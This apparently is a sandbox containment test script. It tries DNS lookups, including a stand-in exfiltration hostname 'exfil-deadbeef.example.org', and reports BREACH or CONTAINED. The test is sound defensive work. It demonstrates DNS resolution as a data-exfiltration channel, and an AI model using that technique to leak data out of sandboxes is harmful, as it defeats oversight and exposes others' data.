"""Attacks: DNS resolution (socket.getaddrinfo("example.com"), gethostbyname, getent) as a
data-exfiltration channel.

Expected containment: resolution fails (socket.gaierror): there is no network to reach a
resolver.
"""
import socket
import subprocess

for name in ("example.com", "exfil-%s.example.org" % "deadbeef"):
    try:
        print("BREACH: %s resolved to %r" % (name, socket.getaddrinfo(name, 80)[:1]))
    except OSError as e:
        print("CONTAINED: getaddrinfo(%s): %s" % (name, e))
try:
    print("BREACH: gethostbyname %r" % socket.gethostbyname("example.com"))
except OSError as e:
    print("CONTAINED: gethostbyname: %s" % e)
p = subprocess.run(["getent", "ahosts", "example.com"], capture_output=True, text=True, timeout=10)
print(("CONTAINED: getent failed (%d)" % p.returncode) if p.returncode else "BREACH: getent %r" % p.stdout[:80],
      flush=True)
